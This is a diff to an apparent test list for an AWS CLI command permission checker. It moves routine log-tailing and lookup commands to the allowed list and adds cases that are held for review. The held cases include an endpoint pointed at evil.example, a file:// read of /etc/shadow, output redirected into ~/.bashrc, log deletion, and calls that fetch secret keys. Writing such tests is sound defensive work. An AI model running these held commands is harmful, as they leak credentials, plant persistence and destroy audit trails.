@@ -59,7 +59,12 @@ HELD = [
     "aws lambda invoke --function-name f out.json",
     "aws ssm send-command --document-name AWS-RunShellScript",
     "aws configure get aws_secret_access_key", "aws configure list",
-    "aws configure set region x", "aws logs tail /app --follow",
+    "aws configure set region x",
+    # logs tail reads what get-log-events returns; its group is a name, never an output file
+    "aws logs tail /app --endpoint-url http://evil.example", "aws logs tail /app --debug",
+    "aws logs tail file:///etc/shadow", "aws logs tail /app --profile x > ~/.bashrc",
+    "aws logs delete-log-group --log-group-name /app", "aws logs put-retention-policy "
+    "--log-group-name /app --retention-in-days 1", "aws logs tail $GROUP",
     "aws $SVC describe-instances", "aws ec2 $OP",
     # operations that return credentials or secrets
     "aws secretsmanager get-secret-value --secret-id db",
@@ -212,6 +217,9 @@ ALLOWED = [
     "aws ec2 describe-instances --instance-ids i-1 i-2 --output table --no-cli-pager",
     "aws ec2 describe-instances --max-items 10 --page-size 5",
     "aws logs describe-log-groups --log-group-name-prefix /app",
+    "aws logs tail /app --follow", "aws logs tail /aws/lambda/worker --since 30m --format short",
+    "aws logs filter-log-events --log-group-name /app --filter-pattern ERROR",
+    "aws cloudtrail lookup-events --max-results 20",
     "aws ecs list-services --cluster prod --output table",
     "aws rds describe-db-instances --db-instance-identifier prod",
     "aws cloudwatch get-metric-statistics --namespace AWS/EC2 --metric-name CPUUtilization "
